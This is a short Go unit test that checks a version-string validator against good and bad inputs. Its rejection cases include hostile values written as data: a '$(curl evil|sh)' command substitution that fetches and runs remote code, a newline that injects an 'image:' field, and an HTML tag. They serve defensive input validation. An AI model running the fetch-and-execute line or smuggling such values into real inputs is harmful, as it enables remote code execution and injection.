package srt

import (
	"testing"
)

func TestVersionShaped(t *testing.T) {
	for v, want := range map[string]bool{
		"0.8.1": true, "v1.2.0-rc1": true, "1.7.0.dev20261029": true, "0.9.0+cu128": true, "1.0": true,
		"": false, "1": false, "latest": false, "0.8.1\nimage: evil": false, "0.8.1<img src=x>": false,
		"$(curl evil|sh)": false, "0.8.1 ": false, "1..2": false, ".1.2": false, "1.2..rc": false,
		"1.2.3-" + string(make([]byte, 70)): false, "1.2\u202e": false,
	} {
		if got := VersionShaped(v); got != want {
			t.Errorf("VersionShaped(%q) = %v, want %v", v, got, want)
		}
	}
}
